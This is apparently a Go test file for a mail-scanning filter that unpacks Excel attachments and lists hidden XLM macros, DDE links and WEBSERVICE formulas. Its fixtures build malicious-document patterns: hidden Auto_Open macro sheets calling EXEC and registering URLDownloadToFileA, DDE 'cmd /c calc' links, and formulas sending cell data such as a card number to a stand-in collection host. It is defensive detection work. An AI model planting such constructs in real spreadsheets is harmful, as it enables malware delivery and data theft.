package unpack

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	f "github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/internal/soffice"
)

func TestReadXLM(t *testing.T) {
	wb := f.XLSWorkbook{
		Sheets: []f.XLSSheet{
			{Name: "Sheet1"},
			{Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgChars("cmd /c notepad"), f.PtgFuncVar(1, f.FtabExec, false))},
				{Row: 1, Col: 0, Rgce: f.Cat(f.PtgStr("URLMON"), f.PtgStr("URLDownloadToFileA"), f.PtgStr("JJCCJJ"), f.PtgFuncVar(3, f.FtabRegister, false))},
				{Row: 2, Col: 0, Rgce: f.PtgFuncVar(0, f.FtabHalt, false)},
			}},
		},
		Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}, {Name: "ａｕｔｏ_ｏｐｅｎ2", Wide: true, Rgce: f.PtgRef3d(1, 0, 0)}, {Name: "Total"}},
		DDE:   [][2]string{{"cmd", "/c calc"}},
	}
	got := readXLM(f.WorkbookStream(wb))
	if len(got.Order) != 1 || got.Order[0] != "Macro1" {
		t.Fatalf("listings %v", got.Order)
	}
	l := got.Listings["Macro1"]
	for _, want := range []string{
		XLMHeader + `"Macro1" (very hidden)`,
		XLMAutoRun + `"Auto_Open" (built-in) -> 'Macro1'!R1C1`,
		XLMAutoRun + `"ａｕｔｏ_ｏｐｅｎ2"`,
		XLMCharObf,
		`R1C1: =EXEC("cmd /c notepad")`,
		`R2C1: =REGISTER("URLMON","URLDownloadToFileA","JJCCJJ")`,
		`R3C1: =HALT()`,
	} {
		if !strings.Contains(l, want) {
			t.Errorf("listing lacks %q:\n%s", want, l)
		}
	}
	if strings.Contains(l, `"Total"`) {
		t.Errorf("an ordinary name is listed as auto-run:\n%s", l)
	}
	if len(got.DDE) != 1 || got.DDE[0] != "=cmd|'/c calc'!A0" {
		t.Errorf("DDE %q", got.DDE)
	}

	// A workbook without macro sheets has no listing.
	plain := readXLM(f.WorkbookStream(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Data", Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgInt(1), f.PtgInt(2), f.PtgFuncVar(2, f.FtabSum, false))}}}}}))
	if len(plain.Listings) != 0 || plain.Encrypted {
		t.Errorf("plain workbook: %+v", plain)
	}
}

func TestXLSMembers(t *testing.T) {
	xls := f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgStr("calc"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
		Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(0, 0, 0)}}})
	m := mail("book", "see attached", "book.xls", xls)
	expand(t, m, Options{})
	if p := mustPart(t, m, "2/book.xls/xlm/Macro1"); !strings.Contains(string(p.Content), `=EXEC("calc")`) {
		t.Fatalf("listing:\n%s", p.Content)
	}
}

func FuzzReadXLM(fz *testing.F) {
	fz.Add(f.WorkbookStream(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "M", Macro: true, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgChars("ab"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
		Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(0, 0, 0)}}}))
	fz.Add([]byte{0x06, 0, 22, 0})
	fz.Fuzz(func(t *testing.T, b []byte) {
		wb := readXLM(b)
		for _, l := range wb.Listings {
			if len(l) > maxXLMListing+maxXLMLines*200 {
				t.Fatalf("listing of %d bytes", len(l))
			}
		}
		decompileFormula(b, &formulaEnv{names: []string{"a"}})
		decompileFormula(b, &formulaEnv{names: []string{"a"}, biff12: true, xti: []xtiRef{{0, 0}, {1, 2}}, self: map[int]bool{1: true}, sheets: []string{"s"}, supbooks: []supBook{{app: "x", topic: "y", dde: true}}})
	})
}

func TestVelvetSweatshop(t *testing.T) {
	wb := f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgStr("calc"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
		Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(0, 0, 0)}}}
	m := mail("book", "see attached", "book.xls", f.EncryptedXLS(wb, DefaultOfficePassword))
	expand(t, m, Options{})
	if p := mustPart(t, m, "2/book.xls/xlm/Macro1"); !strings.Contains(string(p.Content), `=EXEC("calc")`) {
		t.Fatalf("listing:\n%s", p.Content)
	}
	if problem(m, ReasonEncryptedDoc) != nil {
		t.Error("opened workbook reported encrypted")
	}

	// A password from the body opens it too, and says so.
	m = mail("book", "The password is Kw9-hidden\n", "book.xls", f.EncryptedXLS(wb, "Kw9-hidden"))
	expand(t, m, Options{})
	mustPart(t, m, "2/book.xls/xlm/Macro1")
	if p := mustPart(t, m, "2"); p.UnlockedBy != "body" {
		t.Errorf("UnlockedBy %q", p.UnlockedBy)
	}

	// An unknown password: unscannable, the reason named.
	m = mail("book", "hello", "book.xls", f.EncryptedXLS(wb, "unguessable-8f2"))
	expand(t, m, Options{})
	mustProblem(t, m, ReasonEncryptedDoc, "2")
	if part(m, "2/book.xls/xlm/Macro1") != nil {
		t.Error("listing from a workbook that did not open")
	}
}

func TestEncryptedOOXMLAndWord(t *testing.T) {
	enc := f.CFB([]f.CFBEntry{{Name: "EncryptionInfo", Parent: -1, Data: []byte{4, 0, 4, 0, 0x40, 0, 0, 0}}, {Name: "EncryptedPackage", Parent: -1, Data: make([]byte, 600)}})
	m := mail("x", "x", "report.docx", enc)
	expand(t, m, Options{})
	mustProblem(t, m, ReasonEncryptedDoc, "2")

	wd := make([]byte, 1024)
	copy(wd, []byte{0xEC, 0xA5, 0xC1, 0x00})
	wd[11] = 0x01 // fEncrypted
	m = mail("x", "x", "letter.doc", f.CFB([]f.CFBEntry{{Name: "WordDocument", Parent: -1, Data: wd}}))
	expand(t, m, Options{})
	mustProblem(t, m, ReasonEncryptedDoc, "2")

	wd[11] = 0
	m = mail("x", "x", "letter.doc", f.CFB([]f.CFBEntry{{Name: "WordDocument", Parent: -1, Data: wd}}))
	expand(t, m, Options{})
	if problem(m, ReasonEncryptedDoc) != nil {
		t.Error("a plain .doc reported encrypted")
	}
}

// TestXLSFormulaDDE: a cell formula =cmd|'/c calc'!A0 is stored as a
// ptgNameX naming the item of a DDE SUPBOOK through EXTERNSHEET; the
// formula itself is listed as Excel shows it, with the SUPBOOK's link.
func TestXLSFormulaDDE(t *testing.T) {
	for _, wide := range []bool{false, true} {
		wb := f.XLSWorkbook{
			Sheets: []f.XLSSheet{{Name: "Sheet1", Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgInt(1), f.PtgNameX(2, 1), f.PtgAdd)},
				{Row: 1, Col: 1, Rgce: f.Cat(f.PtgInt(1), f.PtgInt(2), f.PtgFuncVar(2, f.FtabSum, false))},
			}}, {Name: "Sheet2"}},
			DDE:     [][2]string{{"CmD", "/c calc it's"}},
			WideDDE: wide,
		}
		got := readXLM(f.WorkbookStream(wb))
		want := []string{`=CmD|'/c calc it"s'!A0`, `Sheet1!R1C1: =1+CmD|'/c calc it"s'!A0`}
		if strings.Join(got.DDE, "\n") != strings.Join(want, "\n") {
			t.Errorf("wide %v: DDE %q, want %q", wide, got.DDE, want)
		}
	}

	// Without a DDE link no worksheet formula is read, and a formula
	// naming an ordinary external name is no DDE.
	plain := readXLM(f.WorkbookStream(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Data", Formulas: []f.XLSFormula{{Rgce: f.PtgNameX(0, 1)}}}}}))
	if len(plain.DDE) != 0 {
		t.Errorf("plain workbook: DDE %q", plain.DDE)
	}

	m := mail("book", "see attached", "book.xls", f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1", Formulas: []f.XLSFormula{{Rgce: f.PtgNameX(1, 1)}}}},
		DDE: [][2]string{{"cmd", "/c calc"}}}))
	expand(t, m, Options{})
	if p := mustPart(t, m, "2/book.xls/dde-links"); !strings.Contains(string(p.Content), "Sheet1!R1C1: =cmd|'/c calc'!A0\n") {
		t.Fatalf("dde-links:\n%s", p.Content)
	}
}

// TestXLSExternalLinksWrittenByLibreOffice: the files an .xls's external
// references name, as LibreOffice writes them (SUPBOOK with an encoded
// VirtualPath) from an xlsx whose external link is a UNC path, come out as
// "external-links".
func TestXLSExternalLinksWrittenByLibreOffice(t *testing.T) {
	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Summary"><table:table-row>`+
		`<table:table-cell table:formula="of:=['file://203.0.113.7/share/budget.xlsx'#$Sheet1.B9]" office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell>`+
		`<table:table-cell table:formula="of:=['file:///C:/Users/aiko/budget.xlsx'#$Sheet1.B9]" office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell>`+
		`</table:table-row></table:table></office:spreadsheet></office:body>`)
	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"summary.fods": []byte(fods)})
	if err != nil {
		t.Fatal(err)
	}
	xls := out["summary.fods"]
	m := mail("book", "see attached", "summary.xls", xls)
	expand(t, m, Options{})
	p := mustPart(t, m, "2/summary.xls/external-links")
	if want := "\\\\203.0.113.7\\share\\budget.xlsx\nC:\\Users\\aiko\\budget.xlsx\n"; string(p.Content) != want {
		t.Errorf("external-links = %q, want %q", p.Content, want)
	}
}

// TestXLS3DReferencesWrittenByLibreOffice: a reference to another sheet
// (ptgRef3d, ptgArea3d: an EXTERNSHEET entry of the workbook's own SUPBOOK
// and the cell) is listed with its sheet, as LibreOffice wrote it, whose
// name may need quotes; a defined name's reference too.
func TestXLS3DReferencesWrittenByLibreOffice(t *testing.T) {
	cell := func(v string) string {
		return `<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`
	}
	formula := func(f string) string {
		return `<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`
	}
	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet>`+
		`<table:table table:name="Form"><table:table-row>`+formula(`COM.MICROSOFT.WEBSERVICE([$Setup.A1]&amp;[$'Bob''s data'.B2]&amp;base)`)+
		formula(`CONCATENATE([$Setup.A1:.B1])`)+`</table:table-row></table:table>`+
		`<table:table table:name="Setup"><table:table-row>`+cell("https://collect.example.net/c?n=")+cell("x")+`</table:table-row></table:table>`+
		`<table:table table:name="Bob's data"><table:table-row>`+cell("a")+`</table:table-row><table:table-row>`+cell("b")+cell("c")+`</table:table-row></table:table>`+
		`<table:named-expressions><table:named-range table:name="base" table:base-cell-address="$Form.$A$1" table:cell-range-address="$Setup.$B$1"/></table:named-expressions></office:spreadsheet></office:body>`)
	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"form.fods": []byte(fods)})
	if err != nil {
		t.Fatal(err)
	}
	m := mail("form", "see attached", "form.xls", out["form.fods"])
	expand(t, m, Options{})
	got := string(mustPart(t, m, "2/form.xls/web-formulas").Content)
	for _, want := range []string{
		"' name base = 'Setup'!R1C2\n",
		"Form!R1C1: =_xlfn.WEBSERVICE('Setup'!R1C1&'Bob''s data'!R2C2&base)\n",
		"Form!R1C2: =CONCATENATE('Setup'!R1C1:R1C2)\n",
		"Setup!R1C1 = \"https://collect.example.net/c?n=\"\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("web-formulas lacks %q:\n%s", want, got)
		}
	}
}

func TestXLSVirtualPath(t *testing.T) {
	for in, want := range map[string]string{
		"\x01\x01@203.0.113.7\x03share\x03b.xls": `\\203.0.113.7\share\b.xls`,
		"\x01\x01CUsers\x03b.xls":                `C:\Users\b.xls`,
		"\x01\x02data\x03b.xls":                  `\data\b.xls`,
		"\x01\x04\x04b.xls":                      `..\..\b.xls`,
		"\x01\x05\x1ahttps://h.example/b.xlsx":   `https://h.example/b.xlsx`,
		"b.xls":                                  `b.xls`,
	} {
		if got := xlsVirtualPath(in); got != want {
			t.Errorf("xlsVirtualPath(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestXLSWebFormulasWrittenByLibreOffice: LibreOffice writes WEBSERVICE and
// FILTERXML into an .xls as Excel does, future functions kept as hidden
// names (_xlfn.WEBSERVICE) that the cells call; the member web-formulas
// then lists what their addresses are built from: the defined names, every
// formula decompiled, and the string and number cells (shared strings,
// numbers), each at its place.
func TestXLSWebFormulasWrittenByLibreOffice(t *testing.T) {
	str := func(v string) string {
		return `<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`
	}
	formula := func(f string) string {
		return `<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`
	}
	row := func(cells ...string) string {
		return `<table:table-row>` + strings.Join(cells, "") + `</table:table-row>`
	}
	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Rates">`+
		row(formula(`COM.MICROSOFT.WEBSERVICE([.A3]&amp;COM.MICROSOFT.ENCODEURL([.B1]))`), str("x")+`<table:table-cell/>`)+
		row(formula(`SUM(1;2)`), `<table:table-cell office:value-type="float" office:value="42.5"><text:p>42.5</text:p></table:table-cell>`)+
		row(formula(`&quot;https://&quot;&amp;site&amp;&quot;/c?u=&quot;`), `<table:table-cell/>`, str("collect.example.net"))+
		row(formula(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://feed.example.net/a.xml&quot;);&quot;//title&quot;)`))+
		`</table:table><table:named-expressions><table:named-range table:name="site" table:base-cell-address="$Rates.$A$1" table:cell-range-address="$Rates.$C$3"/></table:named-expressions></office:spreadsheet></office:body>`)
	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"rates.fods": []byte(fods)})
	if err != nil {
		t.Fatal(err)
	}
	m := mail("rates", "see attached", "rates.xls", out["rates.fods"])
	expand(t, m, Options{})
	want := "' name site = 'Rates'!R3C3\n" +
		"Rates!R1C1: =_xlfn.WEBSERVICE(R3C1&_xlfn.ENCODEURL(R1C2))\n" +
		"Rates!R1C2 = \"x\"\n" +
		"Rates!R2C1: =SUM(1,2)\n" +
		"Rates!R2C2 = \"42.5\"\n" +
		"Rates!R3C1: =\"https://\"&site&\"/c?u=\"\n" +
		"Rates!R3C3 = \"collect.example.net\"\n" +
		"Rates!R4C1: =_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"https://feed.example.net/a.xml\"),\"//title\")\n"
	if got := string(mustPart(t, m, "2/rates.xls/web-formulas").Content); got != want {
		t.Errorf("web-formulas =\n%s\nwant\n%s", got, want)
	}
}

// Shared formulas as LibreOffice writes a column of like formulas to an
// .xls (a SHRFMLA after the first cell, each cell a ptgExp pointing at it,
// relative references as offsets, ptgRefN and ptgAreaN): each cell's
// formula is listed with its own references.
func TestXLSSharedFormulasWrittenByLibreOffice(t *testing.T) {
	var rows strings.Builder
	for r := 1; r <= 4; r++ {
		fmt.Fprintf(&rows, `<table:table-row><table:table-cell office:value-type="string"><text:p>card%d</text:p></table:table-cell>`+
			`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://collect.example.net/c?n=&quot;&amp;[.A%d]&amp;SUM([.C%d:.D%d])&amp;[.$A$1])" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
			`<table:table-cell office:value-type="float" office:value="%d"><text:p>%d</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>`, r, r, r, r, r, r)
	}
	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet><table:table table:name="Order">`+rows.String()+`</table:table></office:spreadsheet></office:body>`)
	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"order.fods": []byte(fods)})
	if err != nil {
		t.Fatal(err)
	}
	xls := out["order.fods"]
	if !bytes.Contains(xls, []byte{0xBC, 0x04}) {
		t.Fatalf("LibreOffice wrote no SHRFMLA record")
	}
	m := mail("order", "see attached", "order.xls", xls)
	expand(t, m, Options{})
	got := string(mustPart(t, m, "2/order.xls/web-formulas").Content)
	for r := 1; r <= 4; r++ {
		want := fmt.Sprintf("Order!R%dC2: =_xlfn.WEBSERVICE(\"https://collect.example.net/c?n=\"&R%dC1&SUM(R%dC3:R%dC4)&R1C1)\n", r, r, r, r)
		if !strings.Contains(got, want) {
			t.Errorf("web-formulas lacks\n%s\nhave\n%s", want, got)
		}
	}
}

// Record order as Excel and LibreOffice accept it, not as Excel writes it:
// the SST before the names (a web function's among them), and every sheet
// inside the body of one record of an unknown type, found only by
// seeking where its BOUNDSHEET says. LibreOffice reads the cells, the
// formula and the very hidden macro sheet; so must we.
func TestXLSRecordOrderReadAsLibreOffice(t *testing.T) {
	xls := f.XLS(f.XLSWorkbook{
		Sheets: []f.XLSSheet{{Name: "Order", Formulas: []f.XLSFormula{
			{Col: 1, Rgce: f.Cat(f.PtgName(1), f.PtgStr("https://collect.example.net/c?n="), f.PtgRef(0, 0), f.PtgConcat, f.PtgFuncVar(2, 0xFF, false))}}},
			{Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgStr("notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
		Names:    []f.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}, {Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}},
		Strings:  []string{"4000-0000-0000-0002"},
		SSTFirst: true, Tucked: true})
	out, err := soffice.ConvertFiles(t.TempDir(), "fods", map[string][]byte{"order.xls": xls})
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{`<text:p>4000-0000-0000-0002</text:p>`, `<table:table table:name="Macro1"`,
		`&quot;https://collect.example.net/c?n=&quot;&amp;[.A1])"`} { // (LibreOffice knows no _xlfn. name of BIFF8)
		if !strings.Contains(string(out["order.xls"]), w) {
			t.Errorf("LibreOffice does not read %s", w)
		}
	}
	m := mail("order", "see attached", "order.xls", xls)
	expand(t, m, Options{})
	web := string(mustPart(t, m, "2/order.xls/web-formulas").Content)
	for _, w := range []string{"Order!R1C1 = \"4000-0000-0000-0002\"\n", "Order!R1C2: =_xlfn.WEBSERVICE(\"https://collect.example.net/c?n=\"&R1C1)\n"} {
		if !strings.Contains(web, w) {
			t.Errorf("web-formulas lacks %q; have\n%s", w, web)
		}
	}
	if got := string(mustPart(t, m, "2/order.xls/xlm/Macro1").Content); !strings.Contains(got, `R1C1: =EXEC("notepad.exe")`) {
		t.Errorf("macro sheet listing =\n%s", got)
	}
}
